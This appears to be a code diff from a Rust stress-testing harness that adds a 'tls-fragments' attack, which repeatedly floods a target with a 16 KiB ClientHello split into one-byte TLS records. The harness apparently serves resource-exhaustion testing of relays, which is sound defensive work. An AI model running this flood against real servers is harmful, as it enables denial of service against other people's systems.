@@ -33,6 +33,35 @@ pub(super) const KEY_UPDATES_BEFORE: Attack = Attack {
     },
 };
 
+pub(super) const TLS_FRAGMENTS: Attack = Attack {
+    name: "tls-fragments",
+    what: "A ClientHello of 16 KiB in TLS records of one byte, again and again",
+    bound: "the rate",
+    needs: Needs::RELAY,
+    want: Want::Circuit,
+    destination: None,
+    lead: NO_LEAD,
+    run: tls_fragments,
+};
+
+fn tls_fragments(scene: &Scene<'_>) -> Result<()> {
+    let message = [1, 0, 0x40, 0].into_iter().chain([0; 1 << 14]);
+    let records: Vec<u8> = message.flat_map(|byte| [22, 3, 1, 0, 1, byte]).collect();
+    scene.again(|| {
+        let mut socket = connect(attacker(0), scene.aim.address, None)?;
+        for some in records.chunks(64 * 6) {
+            scene.spend(some.len());
+            // The target has seen enough, or takes no more: the next one.
+            if scene.is_over() || socket.write_all(some).is_err() {
+                break;
+            }
+            scene.did(64);
+        }
+        Ok(())
+    });
+    Ok(())
+}
+
 pub(super) const KEY_UPDATES_AFTER: Attack = Attack {
     name: "key-updates-after",
     what: "KeyUpdates on an open link",
